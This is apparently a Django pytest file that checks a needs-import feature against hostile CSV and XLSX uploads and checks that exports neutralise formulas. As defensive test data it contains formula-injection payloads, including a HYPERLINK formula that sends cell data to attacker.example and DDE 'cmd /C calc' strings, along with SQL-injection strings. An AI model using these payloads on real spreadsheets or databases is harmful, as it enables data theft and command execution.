"""Hostile spreadsheets against the need import, through the page (check, then confirm) and
the `import_needs` command: never a 500, never a partial write, always a clear message.
Exports neutralise spreadsheet formulas; uploads are limited in size with a clear message."""

import csv
import io
import zipfile
from dataclasses import dataclass

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import transaction
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from core.models import ImportJob, ImportStatus
from core.tabular import MAX_COLUMNS, xlsx_bytes
from needs.imports import NEED_COLUMNS
from needs.models import Need
from tests.needs.import_files import need_row, needs_file, table_bytes

FORMULAS = (
    '=HYPERLINK("http://attacker.example/?"&A1, "Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


@dataclass(frozen=True)
class Hostile:
    name: str
    filename: str
    data: bytes
    # Rows the file holds that a careful import takes (0: the whole file is refused).
    acceptable_rows: int


def csv_text(rows: list[list[str]]) -> str:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue()


def xlsx_of(rows: list[list]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def row_values(**values) -> list[str]:
    row = need_row(**values)
    return [row.get(column, "") for column in NEED_COLUMNS]


def hostile_files() -> list[Hostile]:
    header = list(NEED_COLUMNS)
    valid = row_values(description="Training for prosecutors on asset recovery")
    accented = row_values(description="Formation des magistrats à la coopération")
    files = [
        Hostile("utf-8 with BOM", "bom.csv", "\ufeff".encode() + needs_file([need_row()]), 1),
        Hostile(
            "latin-1, not UTF-8",
            "latin1.csv",
            csv_text([header, accented]).encode("latin-1"),
            0,
        ),
        Hostile("UTF-16", "utf16.csv", csv_text([header, valid]).encode("utf-16"), 0),
        Hostile("empty file", "empty.csv", b"", 0),
        Hostile("header only", "header.csv", csv_text([header]).encode(), 0),
        Hostile("NUL bytes", "nul.csv", csv_text([header, valid]).encode().replace(b",", b"\0"), 0),
        Hostile("binary garbage", "garbage.csv", bytes(range(256)) * 64, 0),
        Hostile(
            "missing required columns",
            "missing.csv",
            csv_text([["state", "cycle", "description"], ["KEN", "2", "Training"]]).encode(),
            0,
        ),
        Hostile(
            "extra columns",
            "extra.csv",
            csv_text([[*header, "password", "notes"], [*valid, "hunter2", "x"]]).encode(),
            1,
        ),
        Hostile(
            "a column named twice",
            "twice.csv",
            csv_text([[*header, "state"], [*valid, "PER"]]).encode(),
            0,
        ),
        Hostile(
            "more cells than columns",
            "ragged.csv",
            csv_text([header, [*valid, "surplus", "cells"]]).encode(),
            1,
        ),
        Hostile(
            "thousands of columns",
            "wide.csv",
            csv_text(
                [
                    [*header, *(f"c{n}" for n in range(5000))],
                    [*valid, *("x" for _ in range(5000))],
                ]
            ).encode(),
            0,
        ),
        Hostile(
            "a megabyte in one cell",
            "huge-cell.csv",
            csv_text([header, row_values(description="A" * 1_000_000)]).encode(),
            0,
        ),
        Hostile(
            "a 30,000-character description",
            "long-cell.csv",
            csv_text([header, row_values(description="Long " * 6000)]).encode(),
            1,
        ),
        Hostile("the same row twice", "duplicates.csv", needs_file([need_row(), need_row()]), 0),
        Hostile(
            "one good row and one bad row",
            "half-good.csv",
            needs_file([need_row(), need_row(state="XXX", description="Other need")]),
            0,
        ),
        Hostile(
            "an unterminated quote",
            "quote.csv",
            (csv_text([header]) + 'KEN,2,II,5,capacity_building,,,"never closed\n').encode(),
            0,
        ),
        Hostile(
            "SQL in the cells",
            "sql.csv",
            needs_file([need_row(ref="'; DROP TABLE needs_need; --", state="KEN' OR '1'='1")]),
            0,
        ),
        Hostile(
            "cells that start like formulas",
            "formulas.csv",
            needs_file([need_row(description=formula) for formula in FORMULAS]),
            len(FORMULAS),
        ),
        Hostile(
            "header in capitals with spaces, CR line ends",
            "cr.csv",
            csv_text([[f" {c.upper()} " for c in header], valid]).replace("\r\n", "\r").encode(),
            1,
        ),
        # XLSX
        Hostile(
            "xlsx with formula cells",
            "formulas.xlsx",
            table_bytes(NEED_COLUMNS, [need_row(description=f) for f in FORMULAS], "xlsx"),
            len(FORMULAS),
        ),
        Hostile(
            "xlsx with live formulas (no cached value)",
            "live.xlsx",
            xlsx_of([header, [*valid[:8], "=1+1", *valid[9:]]]),
            0,
        ),
        Hostile("a CSV named .xlsx", "csv.xlsx", needs_file([need_row()]), 0),
        Hostile("a truncated xlsx", "truncated.xlsx", xlsx_bytes(header, [valid])[:700], 0),
        Hostile("a zip that is not a workbook", "zip.xlsx", _plain_zip(), 0),
        Hostile(
            "xlsx with thousands of columns",
            "wide.xlsx",
            xlsx_of([[*header, *(f"c{n}" for n in range(MAX_COLUMNS * 10))], valid]),
            0,
        ),
        Hostile(
            "xlsx with a 32,767-character cell",
            "huge-cell.xlsx",
            xlsx_of([header, row_values(description="B" * 32_767)]),
            1,
        ),
        Hostile(
            "xlsx with numbers and dates as typed cells",
            "typed.xlsx",
            xlsx_of([header, [*valid[:2], 2.0, *valid[3:]]]),
            1,
        ),
        Hostile(
            "xlsx with the same row twice", "duplicates.xlsx", xlsx_of([header, valid, valid]), 0
        ),
        Hostile("xlsx without a header", "empty.xlsx", xlsx_of([]), 0),
    ]
    return files


def _plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
    return buffer.getvalue()


HOSTILE = hostile_files()


def counts() -> tuple[int, int]:
    return Need.objects.count(), Need.history.count()


def import_through_the_page(client: Client, hostile: Hostile) -> tuple[int, str]:
    """Upload, and confirm when the check passes. Returns the needs written and the message
    the person reads."""
    upload = SimpleUploadedFile(hostile.filename, hostile.data)
    response = client.post(reverse("imports:upload"), {"kind": "needs", "file": upload})
    assert response.status_code < 500, hostile.name
    if response.status_code != 302:
        assert response.status_code == 400, hostile.name
        return 0, " ".join(response.context["form"].errors.get("file", []))
    job = ImportJob.objects.get(pk=response["Location"].rstrip("/").split("/")[-1])
    page = client.get(response["Location"])
    assert page.status_code == 200, hostile.name
    if job.status == ImportStatus.REJECTED:
        return 0, " ".join([job.file_error, *job.problems, *job.duplicates])
    assert job.status == ImportStatus.CHECKED, (hostile.name, job.status)
    confirmed = client.post(reverse("imports:job_confirm", args=[job.pk]))
    assert confirmed.status_code == 302, hostile.name
    job.refresh_from_db()
    assert job.status == ImportStatus.DONE, (hostile.name, job.status, job.file_error)
    return job.created_count, ""


def import_through_the_command(tmp_path, hostile: Hostile) -> tuple[int, str]:
    path = tmp_path / hostile.filename
    path.write_bytes(hostile.data)
    before = Need.objects.count()
    try:
        call_command("import_needs", str(path), stdout=io.StringIO(), stderr=io.StringIO())
    except CommandError as refusal:
        return 0, str(refusal)
    return Need.objects.count() - before, ""


@pytest.fixture
def staff_client(staff):
    client = Client()
    client.force_login(staff)
    return client


def test_hostile_files_are_refused_whole_or_taken_whole_with_a_clear_message(
    published_review, staff_client, tmp_path
):
    wrong = []
    tried = 0
    for hostile in HOSTILE:
        for path, run in (
            ("page", lambda h=hostile: import_through_the_page(staff_client, h)),
            ("command", lambda h=hostile: import_through_the_command(tmp_path, h)),
        ):
            needs_before, history_before = counts()
            with transaction.atomic():
                written, message = run()
                needs_after, history_after = counts()
                transaction.set_rollback(True)
            tried += 1
            if written != hostile.acceptable_rows:
                wrong.append(f"{hostile.name} ({path}): {written} rows written; {message}")
            elif needs_after - needs_before != written:
                wrong.append(f"{hostile.name} ({path}): {needs_after - needs_before} rows")
            elif written == 0 and (history_after != history_before or len(message) < 10):
                wrong.append(f"{hostile.name} ({path}): history written or no clear message")
    assert not wrong, "\n".join(wrong)
    assert tried == 2 * len(HOSTILE)


EXPORTS = (
    ("needs:need_export", {"fmt": "csv"}, ""),
    ("needs:need_export", {"fmt": "xlsx"}, ""),
    ("assistance:catalogue_csv", {}, ""),
    ("assistance:catalogue_xlsx", {}, ""),
    ("api:need-list", {}, "?format=csv"),
)


def exported_cells(response) -> list:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "live formulas"
    return [cell.value for cell in cells]


def test_formulas_come_back_out_neutralised_in_every_export(published_review, staff):
    from tests import factories

    for formula in FORMULAS:
        factories.NeedFactory(review=published_review, description=formula)
    client = Client(raise_request_exception=False)
    client.force_login(staff)

    problems = []
    for name, kwargs, query in EXPORTS:
        response = client.get(reverse(name, kwargs=kwargs) + query)
        if response.status_code != 200:
            problems.append(f"{name} {kwargs}: status {response.status_code}")
            continue
        cells = exported_cells(response)
        problems += [f"{name} {kwargs}: {f!r} as is" for f in FORMULAS if f in cells]
        problems += [f"{name} {kwargs}: {f!r} missing" for f in FORMULAS if "'" + f not in cells]
    assert not problems, "\n".join(problems)


def test_an_upload_over_the_limit_is_refused_with_a_clear_message(
    published_review, staff_client, settings
):
    settings.MAX_UPLOAD_BYTES = 4096
    data = needs_file([need_row(description=f"Need number {n} " + "x" * 100) for n in range(60)])
    assert len(data) > settings.MAX_UPLOAD_BYTES
    needs_before = Need.objects.count()

    response = staff_client.post(
        reverse("imports:upload"),
        {"kind": "needs", "file": SimpleUploadedFile("big.csv", data)},
    )

    assert response.status_code == 413
    assert "files of at most 4.0\xa0KB are accepted" in response.content.decode()
    assert Need.objects.count() == needs_before
    assert not ImportJob.objects.exists()
